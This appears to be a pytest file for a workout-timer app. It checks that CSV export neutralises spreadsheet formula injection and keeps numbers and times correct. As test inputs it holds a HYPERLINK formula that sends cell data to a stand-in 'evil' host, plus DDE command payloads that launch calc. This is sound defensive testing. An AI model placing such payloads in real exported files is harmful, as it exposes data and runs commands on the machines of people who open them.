"""The table for spreadsheets: nothing in it is a formula, numbers and times are what they are."""

import csv
from datetime import timedelta, timezone
from pathlib import Path

import pytest

from glutetimer.core.history.archive import DECIMAL_COMMA, TableStyle
from glutetimer.core.history.records import SessionEnd, SessionReview, SessionStart
from glutetimer.store.archive.table import inert
from glutetimer.store.history import History
from tests.store.builders import MONDAY, a_set

WEST = timezone(timedelta(hours=-3, minutes=-30))
EVIL = '=HYPERLINK("http://evil/?"&A1,"click")'


@pytest.mark.parametrize(
    "text",
    [
        *(EVIL, "+1-1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"),
        *("\tx", "\rx", "\nx", "\0=1", " =1+1", "\u00a0=1", "\n\n@x", "-5", "\uff1d1+1", "\uff20x"),
        *("\ufeff=1", "\u200b\u200b=1", "\u2066 +1"),
    ],
)
def test_what_could_be_a_formula_becomes_text(text: str) -> None:
    assert inert(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "5 kg", "band=red", "Glute bridge", "ü", "'=1", "a\n=1"])
def test_what_is_none_stays(text: str) -> None:
    assert inert(text) == text


def table(history: History, path: Path, style: TableStyle | None) -> list[dict[str, str]]:
    history.archive.export_csv(str(path / "all.csv"), style=style)
    with (path / "all.csv").open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file, delimiter=(style or TableStyle()).separator))


def test_texts_are_inert_in_every_field_and_numbers_stay(history: History, tmp_path: Path) -> None:
    begun = MONDAY.astimezone(WEST)
    number = history.begin(SessionStart(EVIL, EVIL, begun, 0.5, 2, dose=EVIL))
    history.add_set(number, a_set(0, ended_at=begun))
    history.finish(number, SessionEnd.FINISHED, begun + timedelta(seconds=9), 1.25)
    history.review(number, SessionReview(note=EVIL))
    [row] = table(history, tmp_path, None)
    for name in ("routine", "title", "dose", "note"):
        assert row[name] == f"'{EVIL}"
    assert (row["planned_s"], row["active_s"]) == ("0.5", "1.25")
    assert row["utc_offset_min"] == "-210"
    assert row["started_date"] == begun.date().isoformat()
    assert row["started_time"] == f"{begun:%H:%M:%S}"
    assert (tmp_path / "all.csv").read_bytes().startswith(b"\xef\xbb\xbf")

    [row] = table(history, tmp_path, DECIMAL_COMMA)
    assert (row["planned_s"], row["active_s"]) == ("0,5", "1,25")


@pytest.mark.parametrize("style", [None, DECIMAL_COMMA])
@pytest.mark.parametrize("text", ["a\r=1+1", "x;=1+1", "x,=1+1", "x\t=1+1", 'a"b\r\n=1'])
def test_no_half_of_a_cell_is_a_formula(
    history: History, tmp_path: Path, text: str, style: TableStyle | None
) -> None:
    number = history.begin(SessionStart("a", text, MONDAY, 60.0, 2))
    history.finish(number, SessionEnd.STOPPED, MONDAY, 1.0)
    [row] = table(history, tmp_path, style)
    assert row["title"] == text
    written = (tmp_path / "all.csv").read_bytes().decode("utf-8-sig")
    assert '"' + text.replace('"', '""') + '"' in written
